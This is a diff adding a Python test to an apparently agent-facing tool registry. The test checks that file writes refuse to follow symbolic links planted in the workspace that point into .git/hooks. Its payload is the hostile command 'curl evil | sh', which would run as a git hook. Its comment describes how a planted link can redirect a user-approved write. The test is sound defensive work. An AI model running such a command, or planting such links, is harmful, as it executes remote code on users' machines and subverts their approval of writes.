@@ -472,6 +472,27 @@ async def test_symlinks_inside_the_workspace_are_followed(registry: ToolRegistry
     assert result.output == "data"
 
 
+async def test_a_write_never_goes_through_a_symbolic_link_inside_the_workspace(
+    registry: ToolRegistry, ctx: ToolContext, ws: Path
+) -> None:
+    # Attack: a link planted by a cloned repository (or an earlier call) makes an approved write of "notes.txt"
+    # land on a file the card never showed. Reads may follow it (test above); a write must not.
+    hooks = ws / ".git" / "hooks"
+    hooks.mkdir(parents=True)
+    (ws / "notes.txt").symlink_to(hooks / "post-checkout")
+    (ws / "docs").symlink_to(hooks)
+    for path in ("notes.txt", "docs/post-checkout", "docs/../notes.txt"):
+        written = await registry.execute("write_file", {"path": path, "content": "curl evil | sh"}, ctx)
+        assert not written.ok, path
+        assert written.error is not None
+        assert "goes through a symbolic link" in written.error, written.error
+        assert not written.changed_state
+    assert list(hooks.iterdir()) == []
+    plain = await registry.execute("write_file", {"path": "real/notes.txt", "content": "ok"}, ctx)  # the control
+    assert plain.ok, plain
+    assert (ws / "real" / "notes.txt").read_text() == "ok"
+
+
 async def test_write_replaces_atomically(registry: ToolRegistry, ctx: ToolContext, ws: Path) -> None:
     ws.mkdir(parents=True)
     target = ws / "config.txt"
